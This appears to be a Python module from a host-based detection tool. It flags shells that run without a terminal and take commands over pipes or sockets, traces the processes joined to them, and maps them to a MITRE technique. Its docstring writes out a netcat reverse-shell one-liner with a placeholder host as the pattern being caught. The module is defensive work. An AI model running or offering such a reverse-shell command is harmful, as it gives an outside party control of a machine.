"""Shells without a terminal, and who is joined to them by pipes: `sh -i <f | nc HOST PORT >f`.

A shell asks and answers at a terminal. One that was told to (`-i`) while it reads from a pipe, a FIFO or a
socket has somebody at the other end of that; where this chain ends at a connection, somebody afar. One that
was not told to is given its commands in the same way (`Popen(["sh"], stdin=PIPE, stdout=PIPE)`), and so are
shells of programs that only work with one: whoever hears its answers, too, is worth a word.
"""

from __future__ import annotations

from collections import defaultdict
from collections.abc import Iterable, Iterator, Mapping
from typing import Final

from ...host.live import Process
from ..interface import Verdict
from ..scene import Scene
from .programs import FARTHEST, SHELLS, SYSTEM, Odd, base

CARRIERS: Final = (b"sshd", b"dropbear", b"emacs", b"tmux", b"screen", b"dtach", b"script", b"expect")
"""Programs that carry a shell for whoever logged in."""

TECHNIQUE: Final = "T1059.004"


def odd(scene: Scene, process: Process) -> Iterator[Odd]:
    """What that says of a process that has a connection."""
    if found := scene.once(_joined).get(process.pid):
        yield found


def _joined(scene: Scene) -> dict[int, Odd]:
    """What there is to say of such shells and of what stands at their other ends, by pid."""
    ends = {one.pid: _ends(scene, one.pid) for one in scene.processes.values() if _takes_commands(one)}
    shells = [pid for pid, (stdin, _) in ends.items() if stdin]
    if not shells:
        return {}  # and nobody else is looked into
    at: dict[bytes, list[int]] = defaultdict(list)
    for pid in scene.processes:
        ends.setdefault(pid, _ends(scene, pid))
        for end in filter(None, ends[pid]):
            at[end].append(pid)
    found: dict[int, Odd] = {}
    for pid in shells:
        shell = scene.processes[pid]
        parent = scene.processes.get(shell.parent)
        if parent and base(parent).startswith(CARRIERS) and (parent.exe or b"").startswith(SYSTEM):
            continue
        # A pair of sockets or pipes has an end that is nobody's input or output, and whoever made it is the
        # parent: so is a program that only works its own shell. Init is everybody's in the end.
        if b"i" in _options(shell):
            clause = f"is joined to pid {pid}, an interactive shell without a terminal"
            for one in _reached(ends, at, pid, ends[pid]):
                found[one] = Odd(Verdict.SUSPICIOUS, clause, TECHNIQUE)
            makers = {shell.parent}
        elif all(ends[pid]):
            clause = f"is joined to pid {pid}, a shell that is given its commands, and hears what it answers"
            stdin, stdout = ({*_reached(ends, at, pid, [end])} - {pid} for end in ends[pid])
            others = {one for one in stdin | stdout if not _is_below(scene, one, pid)}
            makers = others & stdin & stdout if others else {shell.parent}
        else:
            continue
        for one in makers - {0, 1}:
            found.setdefault(one, Odd(Verdict.NOTABLE, clause, TECHNIQUE))
    return found


def _reached(
    ends: Mapping[int, tuple[bytes, bytes]], at: Mapping[bytes, list[int]], shell: int, of: Iterable[bytes]
) -> set[int]:
    """The shell, and who is joined to some ends of it, other than through it."""
    found = {shell}
    pending = list(of)
    while pending:
        for pid in at.get(pending.pop(), ()):
            if pid not in found:
                found.add(pid)
                pending += filter(None, ends[pid])
    return found


def _is_below(scene: Scene, pid: int, shell: int) -> bool:
    """Whether a process is what the shell started."""
    for _ in range(FARTHEST):
        process = scene.processes.get(pid)
        if process is None or process.parent == shell:
            return process is not None
        pid = process.parent
    return False


def _options(process: Process) -> bytes:
    return b"".join(one[1:] for one in process.argv[1:] if one[:1] == b"-" and one[:2] != b"--")


def _takes_commands(process: Process) -> bool:
    """`sh`, without a command or script to run."""
    words = [one for one in process.argv[1:] if one[:1] != b"-"]
    return base(process) in SHELLS and b"c" not in _options(process) and not words


def _ends(scene: Scene, pid: int) -> tuple[bytes, bytes]:
    """Where its standard input and output lead, b"" for nobody else. Writing to one file joins nobody."""
    live = scene.host.live
    origin = live.origin(pid)
    stdin, stdout = (
        one
        if one.startswith((b"pipe:", b"socket:")) or (one[:1] == b"/" and live.is_joint(pid, number))
        else b""
        for number, one in enumerate(origin.streams[:2] if origin is not None else (b"", b""))
    )
    return stdin, stdout
